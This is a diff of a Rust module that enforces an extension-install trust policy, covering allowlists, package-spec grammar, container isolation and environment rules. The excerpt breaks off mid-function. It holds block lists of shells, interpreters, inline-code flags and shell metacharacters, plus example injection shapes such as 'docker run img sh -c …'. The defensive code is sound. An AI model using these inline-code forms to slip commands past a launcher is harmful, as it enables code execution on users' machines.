@@ -1,45 +1,44 @@
-//! Trust policy for installing extensions: which commands a link or an import may run, which
-//! arguments are refused, and the administrator's allowlists.
+//! Trust policy for installing extensions: what a link, an import or an API call may run,
+//! which variables it may name, and the administrator's allowlists. docs/install.md states the
+//! rules and the grammar for users; this is the one place that decides them.
 //!
-//! Three rules, each named in the refusal it produces:
+//! Rules, each named in the refusal it produces (with the argument or variable at fault):
 //! 1. **allowed commands** (deep links and imports only, as goose checks links): a stdio `cmd`
 //!    must be exactly one of `DEFAULT_COMMANDS` — a bare name, never a path — or one the site
-//!    added with `GOSLING_ALLOWED_COMMANDS=a,b` or `"allowed_commands": [...]` in the allowlist
-//!    file (those entries are matched exactly too, so a site may allow a full path).
-//! 2. **no inline code** (deep links and imports): goose refuses `npx -c`; we also refuse the
-//!    other ways of making an allowed launcher run a string as code:
-//!    - `npx`/`npx.cmd`: an argument `-c`, `--call`, `-e`, `--eval`, `--node-options`,
-//!      `--script-shell`, `--shell` (or their `--opt=value` forms), or any single-dash cluster
-//!      containing `c` (`-yc`), anywhere in the arguments, as goose does for `-c`;
-//!    - `jbang`: `-c`/`--code` (runs the given source);
-//!    - `gosling`/`goosed`: only `mcp NAME` (a builtin), never `agent` or other subcommands;
-//!    - every command: an argument naming a shell or script interpreter (`sh`, `bash`, `python3`,
-//!      `node`, `pwsh`, `cmd`, … also as `--entrypoint=sh` or `/bin/sh`) followed later by an
-//!      inline-code flag (`-c`, `-e`, `-p`, `-r`, `--eval`, `--print`, `--command`, `-Command`,
-//!      `/c`, `/k`, `eval`, or a short cluster like `-lc`): catches `uvx python -c …`,
-//!      `docker run img sh -c …`, `docker run --entrypoint sh img -c …`;
-//!    - every command: an argument with shell metacharacters `$(`, `` ` ``, `;`, `&&`, `||`, `|`
-//!      or a line break (`npx.cmd` runs through cmd.exe on Windows, and a launcher that reaches
-//!      a shell would run them). A lone `&` is allowed: URLs need it.
-//! 3. **allowlist** (every install path, once configured): goose's `GOOSE_ALLOWLIST` (a URL
-//!    serving YAML `extensions: [- id: …, command: …]`; the stdio command line `cmd args…` must
-//!    start with one of the `command`s) and our local file (`GOSLING_ALLOWLIST_FILE`, else
-//!    `<config dir>/allowlist.json` when it exists): `{"commands": [prefixes], "urls": [URL
-//!    prefixes], "allowed_commands": [names for rule 1]}`. A command passes if any configured
-//!    list allows it. Remote (`streamable_http`) extensions are checked against `urls` when the
-//!    file has that key (`"urls": []` refuses all), otherwise they pass with a warning, as goose
-//!    lets remote links through marked untrusted. `inline_python` runs arbitrary code, so it is
+//!    added with `GOSLING_ALLOWED_COMMANDS=a,b` or `"allowed_commands"` in the allowlist file.
+//! 2. **package spec** (every path): `npx`/`uvx`/`jbang` run a registry package, checked
+//!    against a grammar; their own options are a closed list (`launcher_options`).
+//! 3. **no inline code** (every path): the program that ends up running — the `cmd`, a
+//!    launcher's package, a container's command or entrypoint — is not one that runs its
+//!    arguments as a program (`RUNS_ARGUMENTS`), and an interpreter gets no inline-code argument
+//!    before its script (`eval_arg`, glued and clustered forms included); no shell syntax.
+//! 4. **container isolation** (every path): `docker`/`podman run` with a closed list of options,
+//!    none that reaches the host (privileges, devices, host namespaces, mounts of `/` or homes).
+//! 5. **environment** (every path, and again at activation): `check_env` with
+//!    `config::disallowed_env_rule`.
+//! 6. **own secrets**: an install naming one of gosling's own secrets is saved disabled with the
+//!    reason (`config::unresolved`); activating it is refused (`check_own_secrets`, here for
+//!    `InstallSource::AddExtension` and again in the runtime).
+//! 7. **allowlist** (every path, once configured): goose's `GOOSE_ALLOWLIST` (a URL serving YAML
+//!    `extensions: [- id: …, command: …]`) and our local file (`GOSLING_ALLOWLIST_FILE`, else
+//!    `<config dir>/allowlist.json` when it exists): `{"commands": [...], "urls": [URL
+//!    prefixes], "allowed_commands": [names for rule 1]}`. A command entry approves a whole
+//!    argv (`argv_matches`: equal word for word, or a trailing `*` word for any further
+//!    arguments), never a string prefix; it is a gate on top of rules 1–6, never a way around
+//!    them. Remote (`streamable_http`) extensions are checked against `urls` when the file has
+//!    that key (`"urls": []` refuses all), otherwise they pass with a warning, as goose lets
+//!    remote links through marked untrusted. `inline_python` runs arbitrary code, so it is
 //!    refused whenever a command allowlist is configured. `GOOSE_ALLOWLIST_WARNING=true` turns
 //!    allowlist refusals (only those) into warnings.
 //!
 //! Differences from goose, on purpose: an allowlist URL that cannot be fetched or parsed refuses
 //! installs (goose allows everything); an empty remote list still allows everything, as in goose,
-//! but a local file's lists mean exactly what they say. Prefix matching is goose's plain string
-//! prefix for commands (`uvx mcp-server-fetch` also admits `uvx mcp-server-fetch-x`: end an entry
-//! with a space to pin it); URL prefixes must end at a `/`, `?`, `#` or the end, so
+//! but a local file's lists mean exactly what they say; entries match the whole command line (goose
+//! matches a string prefix); URL prefixes must end at a `/`, `?`, `#` or the end, so
 //! `https://mcp.example.com` does not admit `https://mcp.example.com.evil.io`.
 //!
-//! `Policy::from_env` does the one network fetch (bounded: 15 s, 1 MiB); `check` is pure.
+//! `Policy::from_env` does the one network fetch (bounded: 15 s, 1 MiB); `check` is pure except
+//! that rule 4 reads `HOME` to recognise the user's home directory in a mount.
 
 use crate::config::Env;
 use crate::extensions::config::{ConfigError, ExtensionConfig};
@@ -56,8 +55,8 @@ pub const DEFAULT_COMMANDS: [&str; 9] =
 pub const MAX_ALLOWLIST_BYTES: u64 = 1 << 20;
 const FETCH_TIMEOUT: Duration = Duration::from_secs(15);
 
-/// How an extension is being added. Rules 1 and 2 (commands, inline code) apply to `DeepLink`
-/// and `Import`; the allowlist applies to all.
+/// How an extension is being added. Rule 1 (allowed commands) applies to `DeepLink` and
+/// `Import`; every other rule applies to all.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum InstallSource {
     /// A `goose://extension?…` link (`gosling install`, the install route).
@@ -90,6 +89,17 @@ pub enum PolicyError {
     InlineCode { cmd: String, arg: String, why: String },
     /// Rule 2: `arg` contains shell syntax (`pattern`).
     ShellMetacharacter { arg: String, pattern: &'static str },
+    /// Rule 2: what a launcher (`npx`, `uvx`, `jbang`) or `docker run` is asked to run, `arg`,
+    /// is not a registry package or image (a path, a URL, a bad spec); `why` gives the grammar.
+    NotAPackage { cmd: String, arg: String, why: String },
+    /// Rule 2: `arg` would give a container access to the host (privileges, host namespaces,
+    /// devices, mounts of `/` or a home directory).
+    ContainerReach { cmd: String, arg: String, why: String },
+    /// Rule 3: an environment variable (in `field`: envs, env_keys or a header) that makes a
+    /// program load code or fetch from elsewhere; `message` names its family.
+    EnvRefused { field: String, name: String, message: String },
+    /// Rule 4: an extension variable names one of gosling's own secrets or settings.
+    ReservedSecret { field: String, name: String },
     /// Rule 3: `what` (a command line, URL or inline_python name) matches no entry of `lists`.
     NotAllowlisted { what: String, lists: String },
     /// Rule 3: `GOOSE_ALLOWLIST` is set but could not be loaded, so nothing can be checked.
@@ -133,6 +143,24 @@ impl fmt::Display for PolicyError {
                 f,
                 "policy: refused by the allowlist rule: GOOSE_ALLOWLIST={url} could not be loaded ({detail}); installs are refused until it loads: fix the URL or unset GOOSE_ALLOWLIST"
             ),
+            PolicyError::NotAPackage { cmd, arg, why } => write!(
+                f,
+                "policy: `{cmd} … {}` refused by the package-spec rule: {why}; see docs/install.md for the grammar",
+                crate::extensions::deeplink::printable(arg)
+            ),
+            PolicyError::ContainerReach { cmd, arg, why } => write!(
+                f,
+                "policy: `{cmd} … {}` refused by the container-isolation rule: {why}; remove the option",
+                crate::extensions::deeplink::printable(arg)
+            ),
+            PolicyError::EnvRefused { field, message, .. } => {
+                write!(f, "policy: refused by the environment rule: {field}: {}", crate::extensions::deeplink::printable(message))
+            }
+            PolicyError::ReservedSecret { field, name } => write!(
+                f,
+                "policy: refused by the own-secrets rule: {}",
+                crate::extensions::config::reserved_secret_message(&crate::extensions::deeplink::printable(name), field)
+            ),
             PolicyError::InvalidConfig(e) => write!(f, "policy: {e}"),
             PolicyError::Setup { origin, detail } => write!(f, "policy: {origin}: {detail}"),
         }
@@ -146,6 +174,10 @@ impl std::error::Error for PolicyError {
             PolicyError::CommandNotAllowed { .. }
             | PolicyError::InlineCode { .. }
             | PolicyError::ShellMetacharacter { .. }
+            | PolicyError::NotAPackage { .. }
+            | PolicyError::ContainerReach { .. }
+            | PolicyError::EnvRefused { .. }
+            | PolicyError::ReservedSecret { .. }
             | PolicyError::NotAllowlisted { .. }
             | PolicyError::AllowlistUnavailable { .. }
             | PolicyError::Setup { .. } => None,
@@ -255,15 +287,24 @@ impl Policy {
     /// Checks `config` added through `source`. Ok carries warnings to show the user (allowlist
     /// in warning mode, remote server not covered, legacy sse); Err says which rule refused.
     pub fn check(&self, config: &ExtensionConfig, source: InstallSource) -> Result<Vec<String>, PolicyError> {
+        check_env(config)?;
+        // Rule 6: installing saves such an extension disabled (`config::unresolved`), with the
+        // reason; activating it is refused here.
+        if source == InstallSource::AddExtension {
+            check_own_secrets(config)?;
+        }
         config.validate().map_err(PolicyError::InvalidConfig)?;
         let mut warnings = Vec::new();
         match config {
             ExtensionConfig::Stdio { cmd, args, .. } => {
-                if source.checks_commands() {
-                    self.check_command(cmd, args)?;
+                if source.checks_commands() && !self.allowed_commands.iter().any(|a| a == cmd) {
+                    return Err(PolicyError::CommandNotAllowed {
+                        cmd: cmd.to_string(),
+                        allowed: self.allowed_commands.clone(),
+                    });
                 }
-                let line = format!("{cmd} {}", args.join(" ")).trim().to_string();
-                self.check_command_allowlist(&line, &mut warnings)?;
+                check_args(cmd, args)?;
+                self.check_command_allowlist(cmd, args, &mut warnings)?;
             }
             ExtensionConfig::StreamableHttp { uri, .. } => self.check_url_allowlist(uri, &mut warnings)?,
             ExtensionConfig::InlinePython { name, .. } => {
@@ -308,17 +349,14 @@ impl Policy {
         }
     }
 
-    fn check_command(&self, cmd: &str, args: &[String]) -> Result<(), PolicyError> {
-        if !self.allowed_commands.iter().any(|a| a == cmd) {
-            return Err(PolicyError::CommandNotAllowed {
-                cmd: cmd.to_string(),
-                allowed: self.allowed_commands.clone(),
-            });
-        }
-        check_args(cmd, args)
-    }
-
-    fn check_command_allowlist(&self, line: &str, warnings: &mut Vec<String>) -> Result<(), PolicyError> {
+    fn check_command_allowlist(
+        &self,
+        cmd: &str,
+        args: &[String],
+        warnings: &mut Vec<String>,
+    ) -> Result<(), PolicyError> {
+        let argv: Vec<&str> = std::iter::once(cmd).chain(args.iter().map(String::as_str)).collect();
+        let line = argv.join(" ");
         let mut configured = false;
         let mut unavailable = None;
         if let Some((url, state)) = &self.remote {
@@ -326,7 +364,7 @@ impl Policy {
                 Remote::Loaded(list) if list.is_empty() => {}
                 Remote::Loaded(list) => {
                     configured = true;
-                    if list.iter().any(|p| line.starts_with(p.as_str())) {
+                    if list.iter().any(|p| argv_matches(&argv, p)) {
                         return Ok(());
                     }
                 }
@@ -338,15 +376,14 @@ impl Policy {
         }
         if let Some(LocalList { commands: Some(list), .. }) = &self.local {
             configured = true;
-            if list.iter().any(|p| line.starts_with(p.as_str())) {
+            if list.iter().any(|p| argv_matches(&argv, p)) {
                 return Ok(());
             }
         }
         if !configured {
             return Ok(());
         }
-        let e =
-            unavailable.unwrap_or_else(|| PolicyError::NotAllowlisted { what: line.to_string(), lists: self.lists() });
+        let e = unavailable.unwrap_or_else(|| PolicyError::NotAllowlisted { what: line, lists: self.lists() });
         self.refuse_or_warn(e, warnings)
     }
 
@@ -378,6 +415,70 @@ impl Policy {
     }
 }
 
+/// Whether the command line `argv` is approved by the allowlist `entry`: the entry's words
+/// (split on spaces) must equal argv word for word; a last word `*` stands for any further
+/// arguments (zero or more), which rule 2 has checked like any others. Never a string prefix:
+/// `uvx mcp-server-fetch` does not approve `uvx mcp-server-fetch-x` nor extra arguments.
+pub fn argv_matches(argv: &[&str], entry: &str) -> bool {
+    let words: Vec<&str> = entry.split_whitespace().collect();
+    match words.split_last() {
+        Some((&"*", head)) => argv.len() >= head.len() && argv[..head.len()] == *head,
+        Some(_) => argv == words.as_slice(),
+        None => false,
+    }
+}
+
+/// Rule 5 for every variable a config names: the `envs` and `env_keys` names and the
+/// variables its headers refer to.
+pub fn check_env(config: &ExtensionConfig) -> Result<(), PolicyError> {
+    use crate::extensions::config::disallowed_env_message;
+    let (envs, env_keys, headers) = match config {
+        ExtensionConfig::Stdio { envs, env_keys, .. } => (envs, env_keys, None),
+        ExtensionConfig::StreamableHttp { envs, env_keys, headers, .. } => (envs, env_keys, Some(headers)),
+        ExtensionConfig::Sse { .. }
+        | ExtensionConfig::Builtin { .. }
+        | ExtensionConfig::Platform { .. }
+        | ExtensionConfig::Frontend { .. }
+        | ExtensionConfig::InlinePython { .. } => return Ok(()),
+    };
+    let mut named: Vec<(String, &str)> = envs.keys().map(|k| (k.clone(), "envs")).collect();
+    named.extend(env_keys.iter().map(|k| (k.clone(), "env_keys")));
+    for v in headers.into_iter().flat_map(|h| h.values()) {
+        for var in crate::wire::template::vars(v) {
+            named.push((var, "headers"));
+        }
+    }
+    for (name, field) in named {
+        if let Some(message) = disallowed_env_message(&name) {
+            return Err(PolicyError::EnvRefused { field: field.into(), name, message });
+        }
+    }
+    Ok(())
+}
+
+/// Rule 6 for activation: no name the config reads from the secrets store (`env_keys`, header
+/// variables) is one of gosling's own. A literal value in `envs` is the user's own text and is
+/// not read from the store.
+pub fn check_own_secrets(config: &ExtensionConfig) -> Result<(), PolicyError> {
+    let (env_keys, headers) = match config {
+        ExtensionConfig::Stdio { env_keys, .. } => (env_keys, None),
+        ExtensionConfig::StreamableHttp { env_keys, headers, .. } => (env_keys, Some(headers)),
+        ExtensionConfig::Sse { .. }
+        | ExtensionConfig::Builtin { .. }
+        | ExtensionConfig::Platform { .. }
+        | ExtensionConfig::Frontend { .. }
+        | ExtensionConfig::InlinePython { .. } => return Ok(()),
+    };
+    let mut named: Vec<(String, &str)> = env_keys.iter().map(|k| (k.clone(), "env_keys")).collect();
+    for v in headers.into_iter().flat_map(|h| h.values()) {
+        named.extend(crate::wire::template::vars(v).into_iter().map(|var| (var, "headers")));
+    }
+    match named.into_iter().find(|(n, _)| crate::extensions::config::is_reserved_secret(n)) {
+        Some((name, field)) => Err(PolicyError::ReservedSecret { field: field.into(), name }),
+        None => Ok(()),
+    }
+}
+
 /// `url` without `user:password@` and without its query and fragment.
 fn redact_url(url: &str) -> String {
     let (base, rest) = url.split_once(['?', '#']).map_or((url, false), |(b, _)| (b, true));
@@ -404,127 +505,759 @@ fn url_has_prefix(uri: &str, prefix: &str) -> bool {
     p.ends_with(['/', '?', '#']) || matches!(u[p.len()..].chars().next(), None | Some('/' | '?' | '#'))
 }
 
-const INTERPRETERS: [&str; 27] = [
-    "sh",
-    "bash",
-    "zsh",
-    "dash",
-    "ksh",
-    "mksh",
-    "csh",
-    "tcsh",
-    "fish",
-    "ash",
+/// Programs that run their arguments as a program (or a command line), whatever the flags:
+/// never an MCP server. Launchers and package managers are here too, so a launcher cannot be
+/// nested inside another (`npx npx -c …`, `uvx uv run python -c …`).
+const RUNS_ARGUMENTS: &[&str] = &[
+    "awk",
+    "gawk",
+    "mawk",
+    "nawk",
     "busybox",
-    "pwsh",
-    "powershell",
-    "cmd",
-    "node",
-    "nodejs",
-    "deno",
-    "bun",
-    "perl",
-    "ruby",
-    "php",
-    "python",
-    "python2",
-    "python3",
-    "pypy",
-    "pypy3",
-    "osascript",
+    "toybox",
+    "sed",
+    "env",
+    "xargs",
+    "find",
+    "ipython",
+    "xonsh",
+    "jshell",
+    "irb",
+    "pry",
+    "expect",
+    "tclsh",
+    "wish",
+    "gdb",
+    "lldb",
+    "script",
+    "eval",
+    "exec",
+    "source",
+    "time",
+    "nice",
+    "nohup",
+    "timeout",
+    "stdbuf",
+    "setsid",
+    "sudo",
+    "doas",
+    "su",
+    "watch",
+    "parallel",
+    "vim",
+    "nvim",
+    "emacs",
+    "ex",
+    "ed",
+    "ssh",
+    "make",
+    "just",
+    "cross-env",
+    "cross-env-shell",
+    "shx",
+    "concurrently",
+    "npm-run-all",
+    "run-p",
+    "run-s",
+    "nodemon",
+    "env-cmd",
+    "dotenv",
+    "dotenv-cli",
+    "npx",
+    "npm",
+    "pnpm",
+    "yarn",
+    "uv",
+    "uvx",
+    "pip",
+    "pipx",
+    "poetry",
+    "hatch",
+    "jbang",
+    "docker",
+    "podman",
+    "kubectl",
 ];
 
-/// `sh`, `/bin/bash`, `python3.12`, `pwsh.exe`, `--entrypoint=sh` → the interpreter's name.
-fn interpreter(arg: &str) -> Option<&'static str> {
-    let v = if arg.starts_with("--") { arg.split_once('=').map(|(_, v)| v)? } else { arg };
-    let base = v.rsplit(['/', '\\']).next().unwrap_or(v);
-    let base = base.strip_suffix(".exe").unwrap_or(base).to_ascii_lowercase();
-    let trimmed = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
-    INTERPRETERS
-        .iter()
-        .copied()
-        .find(|i| *i == base || (trimmed.starts_with("python") || trimmed.starts_with("pypy")) && *i == trimmed)
+/// Python modules that run their arguments as code or install what they name.
+const PYTHON_EXEC_MODULES: &[&str] =
+    &["timeit", "pdb", "cprofile", "profile", "trace", "code", "runpy", "pip", "ensurepip", "doctest", "idlelib"];
+
+/// Interpreters and shells, each with the arguments that make it run text from the command
+/// line (or load code named on it) instead of a script or module of a package.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Interp {
+    /// `-c`, or a short cluster containing `c` (`-lc`); fish's `-C`/`--init-command`.
+    Shell,
+    /// `-c`, also glued (`-c<code>`) and clustered (`-Ic`).
+    Python,
+    /// `-e`, `-p`, `-r` (also clustered: `-pe`), `--eval`, `--print`, `--import`, `--require`,
+    /// `--loader`, `--experimental-loader`, `--env-file`, `--inspect*`.
+    Node,
+    /// deno `eval`/`repl`, `--eval`, a `data:`/`http(s):` module; bun `-e`/`-p`/`--preload`.
+    DenoBun,
+    /// perl `-e`/`-E`/`-M`/`-m`/`-d`/`-x`; ruby `-e`/`-r`; php `-r`/`-B`/`-R`/`-E`/`-d`; lua
+    /// `-e`/`-l`; julia/R/osascript/groovy `-e`/`-E`/`-L`: any short cluster with those letters.
+    Short(&'static str),
+    /// pwsh/powershell: any `-c…`/`-e…`/`-f…`/`-en…` (abbreviations are accepted); cmd: `/c`, `/k`, `/r`.
+    Windows,
+    /// java: `-javaagent`, `-agentpath`, `-agentlib`, `-XX:OnError`, `-XX:OnOutOfMemoryError`.
+    Java,
 }
 
-/// Flags that make an interpreter run the next argument as code.
-fn is_eval_flag(arg: &str) -> bool {
-    const EXACT: [&str; 14] = [
-        "-c",
-        "-e",
-        "-p",
-        "-r",
-        "--eval",
-        "--print",
-        "--command",
-        "-command",
-        "-encodedcommand",
-        "-enc",
-        "/c",
-        "/k",
-        "eval",
-        "--exec",
-    ];
+fn interp_of(prog: &str) -> Option<Interp> {
+    let p = prog.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    Some(match p {
+        "sh" | "bash" | "rbash" | "zsh" | "dash" | "ksh" | "mksh" | "pdksh" | "csh" | "tcsh" | "fish" | "ash"
+        | "yash" | "posh" | "elvish" | "nu" => Interp::Shell,
+        "python" | "pypy" | "py" => Interp::Python,
+        "node" | "nodejs" | "tsx" | "ts-node" | "esno" | "babel-node" | "zx" | "coffee" | "sucrase-node"
+        | "vite-node" | "jiti" => Interp::Node,
+        "deno" | "bun" => Interp::DenoBun,
+        "perl" => Interp::Short("eEMmdx"),
+        "ruby" => Interp::Short("er"),
+        "php" | "php-cgi" => Interp::Short("rBREd"),
+        "lua" | "luajit" => Interp::Short("el"),
+        "julia" => Interp::Short("eEL"),
+        "r" | "rscript" | "osascript" | "groovy" => Interp::Short("e"),
+        "pwsh" | "powershell" | "cmd" => Interp::Windows,
+        "java" => Interp::Java,
+        _ => return None,
+    })
+}
+
+/// `/usr/bin/Python3.12.exe` → `python3.12`: the file name, lower-cased, without `.exe`/`.cmd`.
+fn program_name(arg: &str) -> String {
+    let base = arg.rsplit(['/', '\\']).next().unwrap_or(arg).to_ascii_lowercase();
+    base.strip_suffix(".exe").or_else(|| base.strip_suffix(".cmd")).unwrap_or(&base).to_string()
+}
+
+/// Why `arg` makes `interp` run inline code, if it does.
+fn eval_arg(interp: Interp, arg: &str) -> Option<String> {
     let lower = arg.to_ascii_lowercase();
-    if EXACT.contains(&lower.as_str())
-        || lower.starts_with("--eval=")
-        || lower.starts_with("--print=")
-        || lower.starts_with("--command=")
-    {
-        return true;
+    let opt = lower.split_once('=').map_or(lower.as_str(), |(o, _)| o);
+    let short = arg.strip_prefix('-').filter(|b| !b.starts_with('-') && !b.is_empty());
+    match interp {
+        Interp::Shell => {
+            if matches!(opt, "--command" | "--init-command" | "--rcfile" | "--init-file")
+                || short.is_some_and(|b| b.contains('c') || b.contains('C'))
+            {
+                return Some("a shell given `-c` (or a cluster like `-lc`) runs the next argument as a command".into());
+            }
+        }
+        Interp::Python => {
+            if let Some(b) = short {
+                for c in b.chars() {
+                    match c {
+                        'c' => return Some("python `-c` runs the text given with it (also glued: `-c<code>`)".into()),
+                        'm' | 'W' | 'X' => break,
+                        _ => {}
+                    }
+                }
+            }
+        }
+        Interp::Node => {
+            const LONG: [&str; 13] = [
+                "--run",
+                "--eval",
+                "--print",
+                "--import",
+                "--require",
+                "--loader",
+                "--experimental-loader",
+                "--env-file",
+                "--env-file-if-exists",
+                "--inspect",
+                "--inspect-brk",
+                "--inspect-wait",
+                "--inspect-port",
+            ];
+            if LONG.contains(&opt) || short.is_some_and(|b| b.contains(['e', 'p', 'r'])) {
+                return Some(format!("node `{opt}` runs code given on the command line (or loads it from a URL)"));
+            }
+        }
+        Interp::DenoBun => {
+            if matches!(opt, "eval" | "repl" | "--eval" | "--eval-file" | "--print" | "--preload" | "--require")
+                || short.is_some_and(|b| b.contains(['e', 'p', 'r']))
+                || lower.contains("data:")
+                || lower.starts_with("http:")
+                || lower.starts_with("https:")
+            {
+                return Some(format!("`{opt}` runs code given on the command line or fetched from a URL"));
+            }
+        }
+        Interp::Short(letters) => {
+            if short.is_some_and(|b| b.chars().take_while(|c| c.is_ascii_alphabetic()).any(|c| letters.contains(c)))
+                || matches!(opt, "--eval" | "--print" | "--load")
+            {
+                return Some(format!("`{opt}` makes the interpreter run code given on the command line"));
+            }
+        }
+        Interp::Windows => {
+            if ["-c", "-e", "-f", "/c", "/k", "/r", "--c", "--e"].iter().any(|p| opt.starts_with(p)) {
+                return Some(format!("`{opt}` makes the shell run a command given on the command line"));
+            }
+        }
+        Interp::Java => {
+            if ["-javaagent", "-agentpath", "-agentlib", "-xx:onerror", "-xx:onoutofmemoryerror"]
+                .iter()
+                .any(|p| lower.starts_with(p))
+            {
+                return Some(format!("`{opt}` makes the JVM load or run code named on the command line"));
+            }
+        }
     }
-    // Short clusters: `-lc`, `-ec`, `-pe`, `-Bc`.
-    let body = arg.strip_prefix('-').unwrap_or("");
-    !arg.starts_with("--")
-        && (2..=6).contains(&body.len())
-        && body.bytes().all(|b| b.is_ascii_alphabetic())
-        && (body.contains('c') || body.contains('e'))
+    None
+}
+
+/// Where an interpreter's own options end: its script or module. Arguments after it belong to
+/// the script (`python -m server -c config.yaml` is the server's `-c`).
+fn ends_options(arg: &str) -> bool {
+    let lower = arg.to_ascii_lowercase();
+    const SCRIPTS: [&str; 12] =
+        [".py", ".js", ".mjs", ".cjs", ".ts", ".sh", ".rb", ".pl", ".php", ".lua", ".jl", ".jar"];
+    !arg.starts_with('-') && SCRIPTS.iter().any(|s| lower.ends_with(s))
+}
+
+/// The module python runs, when `arg` names it: after `-m` or a cluster ending in `m` (`-Im`),
+/// or glued (`-mtimeit`, `-Imtimeit`).
+fn python_module<'a>(arg: &'a str, prev: Option<&str>) -> Option<&'a str> {
+    let cluster = |a: &str| a.strip_prefix('-').filter(|b| !b.starts_with('-') && !b.is_empty()).map(str::to_string);
+    if prev.and_then(cluster).is_some_and(|b| b.ends_with('m') && b.chars().all(|c| c.is_ascii_alphabetic())) {
+        return Some(arg);
+    }
+    let b = arg.strip_prefix('-').filter(|b| !b.starts_with('-'))?;
+    let i = b.find('m')?;
+    let rest = &b[i + 1..];
+    (!rest.is_empty() && b[..i].chars().all(|c| c.is_ascii_alphabetic() && c != 'c')).then_some(rest)
+}
+
+/// A program (the stdio `cmd` itself, what a launcher runs, or a container's command) and its
+/// arguments: refused when it runs its arguments as a program, or when it is an interpreter given
+/// an inline-code argument before its script.
+fn check_program(cmd: &str, prog: &str, args: &[String]) -> Result<(), PolicyError> {
+    let name = program_name(prog);
+    let refuse =
+        |arg: &str, why: String| Err(PolicyError::InlineCode { cmd: cmd.to_string(), arg: arg.to_string(), why });
+    if RUNS_ARGUMENTS.contains(&name.as_str()) {
+        return refuse(prog, format!("`{name}` runs its arguments as a program; it is not an MCP server"));
+    }
+    if let Some(interp) = interp_of(&name) {
+        let mut prev: Option<&str> = None;
+        for a in args {
+            if interp == Interp::Python {
+                if let Some(module) = python_module(a, prev) {
+                    if PYTHON_EXEC_MODULES.contains(&module.to_ascii_lowercase().as_str()) {
+                        return refuse(
+                            a,
+                            format!("`python -m {module}` runs its arguments as code or installs what they name"),
+                        );
+                    }
+                    break; // the module's own arguments follow
+                }
+            }
+            if a == "--" || ends_options(a) {
+                break;
+            }
+            if let Some(why) = eval_arg(interp, a) {
+                return refuse(a, why);
+            }
+            prev = Some(a);
+        }
+    }
+    Ok(())
 }
 
 const METACHARS: [&str; 8] = ["$(", "`", ";", "&&", "||", "|", "\n", "\r"];
 
-/// Rule 2 for one command line; see the module header for the exact list.
+fn not_package(cmd: &str, arg: &str, why: impl Into<String>) -> PolicyError {
+    PolicyError::NotAPackage { cmd: cmd.to_string(), arg: arg.to_string(), why: why.into() }
+}
+
+fn no_path_or_url(cmd: &str, spec: &str, what: &str) -> Result<(), PolicyError> {
+    let lower = spec.to_ascii_lowercase();
+    if spec.contains("://") || lower.starts_with("git+") || lower.starts_with("file:") || lower.starts_with("data:") {
+        return Err(not_package(cmd, spec, format!("it is a URL; {what}")));
+    }
+    if spec.starts_with(['.', '/', '\\', '~']) || spec.contains('\\') || spec.contains("..") {
+        return Err(not_package(cmd, spec, format!("it is a path; {what}")));
+    }
+    if lower.ends_with(".tgz") || lower.ends_with(".tar.gz") || lower.ends_with(".whl") || lower.ends_with(".zip") {
+        return Err(not_package(cmd, spec, format!("it is an archive file; {what}")));
+    }
+    Ok(())
+}
+
+/// npm: `name`, `@scope/name`, each optionally `@version-or-tag`.
+fn check_npm_spec(cmd: &str, spec: &str) -> Result<String, PolicyError> {
+    const WHAT: &str = "npx runs a registry package: `name`, `@scope/name` or `name@version`";
+    no_path_or_url(cmd, spec, WHAT)?;
+    let part = |s: &str| {
+        !s.is_empty()
+            && s.len() <= 214
+            && !s.starts_with(['.', '_', '-'])
+            && s.bytes().all(|b| b.is_ascii_alphanumeric() || b"._~-".contains(&b))
+    };
+    let (name, version) = match spec.strip_prefix('@') {
+        Some(rest) => {
+            let (scope, tail) = rest.split_once('/').ok_or_else(|| not_package(cmd, spec, WHAT))?;
+            let (n, v) = tail.split_once('@').map_or((tail, None), |(n, v)| (n, Some(v)));
+            if !part(scope) || !part(n) {
+                return Err(not_package(cmd, spec, WHAT));
+            }
+            (format!("@{scope}/{n}"), v)
+        }
+        None => {
+            let (n, v) = spec.split_once('@').map_or((spec, None), |(n, v)| (n, Some(v)));
+            if !part(n) {
+                return Err(not_package(cmd, spec, WHAT));
+            }
+            (n.to_string(), v)
+        }
+    };
+    if let Some(v) = version {
+        if v.is_empty() || !v.bytes().all(|b| b.is_ascii_alphanumeric() || b"._^~<>=*+-".contains(&b)) {
+            return Err(not_package(cmd, spec, format!("the version `{v}` is not a version or tag; {WHAT}")));
+        }
+    }
+    Ok(name.rsplit('/').next().unwrap_or(&name).to_string())
+}
+
+/// PyPI (uvx): `name`, `name[extra,…]`, with `==1.0`, `>=1,<2`, `~=1.2` or `@1.0`/`@latest`.
+fn check_pypi_spec(cmd: &str, spec: &str) -> Result<String, PolicyError> {
+    const WHAT: &str = "uvx runs a registry package: `name`, `name==1.0`, `name[extra]` or `name@latest`";
+    no_path_or_url(cmd, spec, WHAT)?;
+    let end = spec.find(|c: char| !(c.is_ascii_alphanumeric() || "._-".contains(c))).unwrap_or(spec.len());
+    let (name, mut rest) = spec.split_at(end);
+    if name.is_empty() || !name.starts_with(|c: char| c.is_ascii_alphanumeric()) {
+        return Err(not_package(cmd, spec, WHAT));
+    }
+    if let Some(r) = rest.strip_prefix('[') {
+        let (extras, after) = r.split_once(']').ok_or_else(|| not_package(cmd, spec, WHAT))?;
+        if !extras.bytes().all(|b| b.is_ascii_alphanumeric() || b"._-,".contains(&b)) {
+            return Err(not_package(cmd, spec, WHAT));
+        }
+        rest = after;
+    }
+    let version = rest.strip_prefix('@').unwrap_or(rest);
+    if !version.bytes().all(|b| b.is_ascii_alphanumeric() || b".*+!,<>=~_-".contains(&b)) {
+        return Err(not_package(cmd, spec, format!("`{rest}` is not a version specifier; {WHAT}")));
+    }
+    Ok(name.to_string())
+}
+
+/// An executable a package provides (`--from`/`--package` name the package): a plain name.
+fn check_bin_name(cmd: &str, bin: &str) -> Result<String, PolicyError> {
+    no_path_or_url(cmd, bin, "name one of the package's executables")?;
+    if bin.is_empty() || bin.starts_with('-') || !bin.bytes().all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b))
+    {
+        return Err(not_package(cmd, bin, "name one of the package's executables (letters, digits, `.`, `_`, `-`)"));
+    }
+    Ok(bin.to_string())
+}
+
+/// Splits the launcher's own options from the program. `flags` take no value, `valued` take one
+/// (`--opt v` or `--opt=v`; `check` validates it). Anything else before the program is refused.
+fn launcher_options(
+    cmd: &str,
+    args: &[String],
+    flags: &[&str],
+    valued: &[&str],
